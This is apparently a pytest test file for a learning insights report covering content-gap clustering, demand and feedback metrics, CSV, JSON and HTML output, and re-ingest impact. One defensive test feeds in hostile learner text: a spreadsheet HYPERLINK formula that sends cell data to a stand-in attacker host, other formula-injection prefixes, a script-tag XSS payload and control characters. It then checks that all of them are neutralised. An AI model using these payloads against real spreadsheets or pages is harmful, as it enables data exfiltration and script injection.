"""L&D insights report: planted content gaps come out as separate clusters; demand, feedback, outputs, re-ingest."""

from __future__ import annotations

import csv
import re
import shutil
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from conftest import ARTIFACTS, ROOT, SAMPLE_LIBRARY, make_settings

from assistant.apps.insights import (
    InsightsReport,
    build_report,
    load_snapshot,
    snapshot_path,
    snapshot_sections,
    write_csv,
    write_html,
    write_json,
)
from assistant.pilot import CoursePilot
from assistant.planning.learners import LearnerStore
from evals.dataset import AnswerCase, load_dataset
from ingest.pipeline import IngestPipeline

GOLDEN = ROOT / "evals" / "datasets" / "golden.yaml"
CHARTS = ("gap-clusters", "skills", "courses", "goals", "path-completion")

# Three topics the sample library does not teach (checked: no course mentions reimbursement, Kubernetes or
# parental leave), each asked five ways by several learners.
PLANTED: dict[str, tuple[list[str], list[str]]] = {
    "expenses": (
        [
            "How do I submit an expense report for travel costs?",
            "What is the process for getting reimbursed for business expenses?",
            "Where do I file my expense claim after a client dinner?",
            "How long does expense reimbursement take?",
            "Can I claim mileage on my expense report?",
        ],
        ["e1", "e2", "e3", "e4", "e5"],
    ),
    "kubernetes": (
        [
            "How do I deploy an application to a Kubernetes cluster?",
            "What is a Kubernetes pod and how do I scale a deployment?",
            "How do I write a Kubernetes deployment YAML manifest?",
            "How do I roll back a failed deployment in Kubernetes?",
            "How do I configure kubectl to talk to our Kubernetes cluster?",
        ],
        ["k1", "k2", "k1", "k2", "k3"],
    ),
    "parental-leave": (
        [
            "How many weeks of parental leave do new parents get?",
            "What is our parental leave policy for fathers?",
            "How do I apply for parental leave before the baby arrives?",
            "Is parental leave paid at full salary?",
            "Can I take shared parental leave after an adoption?",
        ],
        ["p1", "p2", "p3", "p4", "p1"],
    ),
}
LABEL_WORDS = {"expenses": ("expense", "reimburs"), "kubernetes": ("kubernetes",), "parental-leave": ("parental",)}


@pytest.fixture(scope="module")
def seeded(pilot: CoursePilot, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A question log from part of the golden set plus the planted gaps, feedback and three saved paths."""
    tmp = tmp_path_factory.mktemp("insights")
    store = LearnerStore(f"sqlite:///{tmp / 'insights.db'}")
    cases = [c for c in load_dataset(GOLDEN).cases if isinstance(c, AnswerCase) and not c.history]
    answerable = [c for c in cases if c.answerable][::2][:30]
    unanswerable = [c for c in cases if not c.answerable]
    entries: dict[str, int] = {}
    answers = {}
    for i, case in enumerate([*answerable, *unanswerable]):
        answer = pilot.ask(case.question)
        answers[case.id] = answer
        entries[case.id] = store.log_answer(answer, f"learner-{i % 7}", message_id=f"m-{case.id}")
    planted_ids: dict[str, list[int]] = {}
    for topic, (questions, learners) in PLANTED.items():
        planted_ids[topic] = [
            store.log_answer(pilot.ask(q), learner, message_id=f"m-{topic}-{n}")
            for n, (q, learner) in enumerate(zip(questions, learners, strict=True))
        ]

    answered = [cid for cid in entries if not answers[cid].refused]
    down = answered[:2]
    for cid in down:
        assert store.set_feedback(f"learner-{list(entries).index(cid) % 7}", -1, entry_id=entries[cid], comment="vague")
    up = answered[2]
    assert store.set_feedback(f"learner-{list(entries).index(up) % 7}", 1, entry_id=entries[up])

    paths = {}
    for learner, goal in (
        ("alice", "I want to get good at pivot tables"),
        ("bob", "I want to get good at Pivot Tables!"),
        ("carol", "Build me a path to become a better coach"),
    ):
        playlist = pilot.playlist(goal)
        assert playlist.items, goal
        paths[learner] = store.save_playlist(learner, playlist)
    for item in paths["alice"].playlist.items:  # alice finishes her path
        store.set_progress("alice", item.item_id)
    store.set_progress("bob", paths["bob"].playlist.items[0].item_id)  # bob does one step, carol none

    # The sample index is shared by the session: a report another test ran may have written the snapshot already.
    snapshot_path(pilot).unlink(missing_ok=True)
    report = build_report(store, pilot, eval_dataset=GOLDEN)
    return {"store": store, "report": report, "planted": planted_ids, "down": [entries[c] for c in down], "tmp": tmp}


def _cluster_of(report: InsightsReport) -> dict[int, int]:
    return {q.id: c.rank for c in report.content_gaps.clusters for q in c.questions}


def test_planted_gaps_come_out_as_separate_clusters(seeded: dict[str, Any]) -> None:
    report: InsightsReport = seeded["report"]
    cluster_of = _cluster_of(report)
    majority: dict[str, int] = {}
    for topic, ids in seeded["planted"].items():
        assert all(i in cluster_of for i in ids), f"{topic}: a planted question was answered confidently"
        rank, size = Counter(cluster_of[i] for i in ids).most_common(1)[0]
        assert size >= 4, f"{topic} is split across clusters: {[cluster_of[i] for i in ids]}"
        majority[topic] = rank
    assert len(set(majority.values())) == 3, majority

    by_rank = {c.rank: c for c in report.content_gaps.clusters}
    for topic, rank in majority.items():
        cluster = by_rank[rank]
        assert any(w in cluster.label.lower() for w in LABEL_WORDS[topic]), (topic, cluster.label)
        assert 2 <= len(cluster.terms) <= 4 and all(re.fullmatch(r"[a-z0-9]+", t) for t in cluster.terms)
        assert cluster.learners >= len(set(PLANTED[topic][1])) and cluster.count >= 4
        assert 1 <= len(cluster.examples) <= 5 and cluster.examples[0] in [q.question for q in cluster.questions]
        assert cluster.nearest is not None and cluster.nearest.course_id and cluster.nearest.label
        # None of these topics is taught: the nearest material is only loosely related.
        assert cluster.nearest.similarity < 0.5

    gaps = report.content_gaps
    # Every planted question is a gap (checked above); off-library golden questions add to it.
    assert gaps.gap_questions == sum(c.count for c in gaps.clusters) >= 15
    ranking = [(c.count, c.learners) for c in gaps.clusters]
    assert ranking == sorted(ranking, reverse=True)
    for cluster in gaps.clusters:
        for q in cluster.questions:
            assert q.refused or q.top_score < gaps.low_confidence_below
    assert "refus" in gaps.definition.lower() and f"{gaps.low_confidence_below:.2f}" in gaps.definition


def test_demand_feedback_and_path_completion(seeded: dict[str, Any]) -> None:
    report: InsightsReport = seeded["report"]
    demand = report.demand
    assert report.totals.questions == 30 + 20 + 15
    assert report.totals.refused + report.totals.answered == report.totals.questions

    skills = {s.skill: s for s in demand.skills}
    assert skills, "no question matched a declared skill"
    assert "pivot tables" in skills and "excel-pivot-tables" in skills["pivot tables"].courses
    assert [s.questions for s in demand.skills] == sorted((s.questions for s in demand.skills), reverse=True)
    courses = {c.course_id: c for c in demand.courses}
    assert courses["excel-basics"].questions > 0 and courses["excel-basics"].title == "Excel Basics"
    assert sum(c.questions for c in demand.courses) >= report.totals.answered  # each answer cites >= 1 course

    # The two spellings of the pivot goal are one goal.
    assert demand.goals[0].playlists == 2 and demand.goals[0].learners == 2
    assert "pivot tables" in demand.goals[0].goal.lower()

    completion = demand.path_completion
    assert completion.playlists == 3 and completion.completed == 1 and completion.not_started == 1
    by_learner = {p.learner_id: p for p in completion.paths}
    assert by_learner["alice"].completion == 1.0 and by_learner["carol"].done == 0
    assert by_learner["bob"].done == 1 and by_learner["bob"].reached == 1
    expected_mean = (1.0 + 1 / by_learner["bob"].steps + 0.0) / 3
    assert completion.mean_completion == pytest.approx(expected_mean, abs=1e-3)
    assert sum(b.playlists for b in completion.distribution) == 3
    assert completion.reach[0].playlists == 2

    feedback = report.feedback
    assert feedback.thumbs_down == 2 and feedback.thumbs_up == 1
    assert {f.id for f in feedback.down} == set(seeded["down"])
    for item in feedback.down:
        assert item.question and item.answer and item.citations and item.comment == "vague"
        assert " › " in item.citations[0]

    impact = report.reingest_impact
    assert impact.snapshot_created and Path(impact.snapshot_path).is_file()
    assert impact.checked > 50  # every path step and golden expectation
    assert not [i for i in impact.flagged if i.status == "changed"]  # nothing to compare with yet


def test_json_and_csv_outputs(seeded: dict[str, Any]) -> None:
    report: InsightsReport = seeded["report"]
    out: Path = seeded["tmp"] / "out"
    path = write_json(report, out / "insights.json")
    assert InsightsReport.model_validate_json(path.read_text()) == report

    files = write_csv(report, out / "csv")
    assert set(files) == {
        "content_gaps",
        "gap_questions",
        "demand_skills",
        "demand_courses",
        "demand_goals",
        "path_completion",
        "feedback",
        "reingest_impact",
    }

    def rows(name: str) -> list[dict[str, str]]:
        with files[name].open(newline="", encoding="utf-8") as fh:
            return list(csv.DictReader(fh))

    gaps = rows("content_gaps")
    assert len(gaps) == len(report.content_gaps.clusters)
    assert gaps[0]["label"] == report.content_gaps.clusters[0].label and int(gaps[0]["questions"]) >= 5
    assert len(rows("gap_questions")) == report.content_gaps.gap_questions
    assert len(rows("demand_skills")) == len(report.demand.skills)
    assert len(rows("path_completion")) == 3
    feedback = rows("feedback")
    assert len(feedback) == 2 and all(r["answer"] and r["citations"] for r in feedback)
    assert len(rows("reingest_impact")) == len(report.reingest_impact.flagged)


def test_hostile_learner_text_neither_breaks_the_report_nor_arms_the_csv(
    seeded: dict[str, Any], pilot: CoursePilot
) -> None:
    """Issue 15 item 10: a goal with `$$` (matplotlib mathtext) and questions that a spreadsheet would run."""
    tmp: Path = seeded["tmp"] / "hostile"
    store = LearnerStore(f"sqlite:///{tmp / 'hostile.db'}")
    goal = "save $$ with Excel budgets"
    store.save_playlist("eve", pilot.playlist(goal))
    store.save_playlist("eve", pilot.playlist("cut $costs$ with \\frac{a}{b} sheets"))
    formula = '=HYPERLINK("http://attacker.example/?q="&A1,"Click for your grade")'
    hostile = [formula, "+1+1 what is a pivot?", "-2+3 kubernetes pods", "@SUM(A1:A9) deploy a helm chart", "\tcmd|x"]
    script = "<script>alert(1)</script> kubernetes ingress controllers"
    for n, question in enumerate([*hostile, script, "\x1b[31mred\x07 kubernetes\x00 operators"]):
        store.log_answer(pilot.ask(question), "eve", message_id=f"m-hostile-{n}")
    report = build_report(store, pilot)
    assert goal in [g.goal for g in report.demand.goals]

    html = write_html(report, tmp / "insights.html").read_text(encoding="utf-8")  # mathtext used to raise here
    assert "save $$ with Excel budgets" in html  # shown literally in the goals chart
    assert "<script" not in html  # autoescaping is on in the templates
    if any(script in c.examples for c in report.content_gaps.clusters):
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html

    files = write_csv(report, tmp / "csv")
    cells = [
        cell for path in files.values() for row in csv.reader(path.open(newline="", encoding="utf-8")) for cell in row
    ]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", cell), repr(cell)
    questions = {row["question"] for row in csv.DictReader(files["gap_questions"].open(newline="", encoding="utf-8"))}
    goals = {row["goal"] for row in csv.DictReader(files["demand_goals"].open(newline="", encoding="utf-8"))}
    assert goal in goals
    for question in hostile:
        if question in [q.question for c in report.content_gaps.clusters for q in c.questions]:
            assert "'" + question in questions  # neutralised, the text otherwise kept
    assert any(q.startswith("'=HYPERLINK(") for q in questions)


@pytest.fixture(scope="module")
def html_report(seeded: dict[str, Any]) -> Path:
    return write_html(seeded["report"], seeded["tmp"] / "out" / "insights.html")


def test_html_is_self_contained_with_charts(seeded: dict[str, Any], html_report: Path) -> None:
    report: InsightsReport = seeded["report"]
    html = html_report.read_text(encoding="utf-8")
    for name in CHARTS:
        figure = re.search(rf'<figure class="chart" data-chart="{name}">(.*?)</figure>', html, re.DOTALL)
        assert figure and "<svg" in figure.group(1), name
    assert "<script" not in html and not re.search(r'(src|href)="https?://', html)
    for cluster in report.content_gaps.clusters[:3]:
        assert cluster.label in html
    assert "Kubernetes" in html and "vague" in html


@pytest.mark.browser
def test_html_renders_in_chromium(seeded: dict[str, Any], html_report: Path) -> None:
    chromium = Path("/usr/bin/chromium")
    if not chromium.exists():
        pytest.skip("Debian chromium is not installed at /usr/bin/chromium (apt-get install -y chromium)")
    sync_api = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
    ARTIFACTS.mkdir(exist_ok=True)
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=str(chromium),
            args=["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        try:
            page = browser.new_page(viewport={"width": 1200, "height": 900})
            page.goto(html_report.as_uri())
            assert page.title().startswith("Learning insights")
            for name in CHARTS:
                chart = page.locator(f'figure[data-chart="{name}"] svg')
                assert chart.count() == 1, name
                box = chart.bounding_box()
                assert box is not None and box["width"] > 300 and box["height"] > 80, (name, box)
            assert page.locator("#gaps-table tbody tr").count() == len(seeded["report"].content_gaps.clusters)
            page.screenshot(path=str(ARTIFACTS / "insights-report.png"), full_page=True)
        finally:
            browser.close()
    assert (ARTIFACTS / "insights-report.png").stat().st_size > 10_000


# ------------------------------------------------------------------------------------------------ re-ingest


def test_reingest_flags_paths_and_eval_cases_pointing_at_changed_or_removed_material(tmp_path: Path) -> None:
    lib = tmp_path / "library"
    course = lib / "giving-feedback"
    shutil.copytree(SAMPLE_LIBRARY / "giving-feedback", course)
    settings = make_settings(tmp_path, library={"dir": str(lib)})
    assert IngestPipeline(settings).run(lib).ok
    pilot = CoursePilot(settings)
    store = LearnerStore(settings.database.url)
    saved = store.save_playlist("dana", pilot.playlist("Build me a path to give better feedback"))
    steps = {item.item_id: item for item in saved.playlist.items}
    assert "giving-feedback/03-receiving-feedback-well.docx" in steps
    dataset = tmp_path / "cases.yaml"
    dataset.write_text(
        """version: 1
cases:
"""
        + "".join(
            f"""- id: {case_id}
  type: answer
  question: {case_id} question?
  expected:
  - course: giving-feedback
    module: {module}
    section: {section}
"""
            for case_id, module, section in (
                ("edited", "01-why-feedback-matters.md", "When to give feedback"),
                ("renamed", "01-why-feedback-matters.md", "Why people avoid giving feedback"),
                ("untouched", "01-why-feedback-matters.md", "Reinforcing and redirecting feedback"),
                ("other-module", "02-the-sbi-model.pdf", "The three parts"),
                ("deleted", "03-receiving-feedback-well.docx", "Asking for feedback"),
            )
        )
    )
    snapshot = snapshot_sections(pilot)
    assert snapshot == snapshot_path(pilot) == Path(settings.index.dir) / pilot.index.name / "section_fingerprints.json"
    before = build_report(store, pilot, eval_dataset=dataset)
    assert before.reingest_impact.flagged == [] and not before.reingest_impact.snapshot_created

    # Edit one section, rename another's heading, delete one module (file and manifest entry); re-ingest.
    notes = course / "01-why-feedback-matters.md"
    text = notes.read_text()
    assert "## When to give feedback\n" in text and "## Why people avoid giving feedback" in text
    text = text.replace("## When to give feedback\n", "## When to give feedback\n\nAlways within two days.\n")
    notes.write_text(text.replace("## Why people avoid giving feedback", "## Why feedback gets avoided"))
    (course / "03-receiving-feedback-well.docx").unlink()
    manifest = course / "course.yaml"
    manifest.write_text(
        re.sub(r"  - path: 03-receiving-feedback-well.docx\n(    .*\n)+?(?=  - path)", "", manifest.read_text())
    )
    report = IngestPipeline(settings).run(lib)
    assert report.ok and {f.path: f.status for f in report.files if f.status != "unchanged"} == {
        "giving-feedback/01-why-feedback-matters.md": "updated",
        "giving-feedback/03-receiving-feedback-well.docx": "removed",
    }

    after = build_report(store, pilot, eval_dataset=dataset)
    evals = {i.ref: i.status for i in after.reingest_impact.flagged if i.source == "eval"}
    assert evals == {"edited": "changed", "renamed": "section_missing", "deleted": "module_missing"}
    flagged_steps = {i.ref: i for i in after.reingest_impact.flagged if i.source == "playlist"}
    number = list(steps).index("giving-feedback/03-receiving-feedback-well.docx") + 1
    assert flagged_steps[f"{saved.id}#{number}"].status == "module_missing"
    assert flagged_steps[f"{saved.id}#{number}"].learner_id == "dana"
    for ref, item in flagged_steps.items():
        step = saved.playlist.items[int(ref.split("#")[1]) - 1]
        assert step.item_id.endswith(("01-why-feedback-matters.md", "03-receiving-feedback-well.docx")), step
        assert item.status != "changed" or step.item_id.endswith("01-why-feedback-matters.md")
    assert after.reingest_impact.counts["ok"] >= 2

    # Refreshing the snapshot acknowledges the changes; what is missing stays flagged.
    taken = load_snapshot(pilot)
    assert taken is not None
    refreshed = build_report(store, pilot, eval_dataset=dataset, refresh_snapshot=True)
    assert refreshed.reingest_impact.snapshot_refreshed
    assert load_snapshot(pilot) != taken
    again = build_report(store, pilot, eval_dataset=dataset)
    statuses = {i.ref: i.status for i in again.reingest_impact.flagged if i.source == "eval"}
    assert statuses == {"renamed": "section_missing", "deleted": "module_missing"}
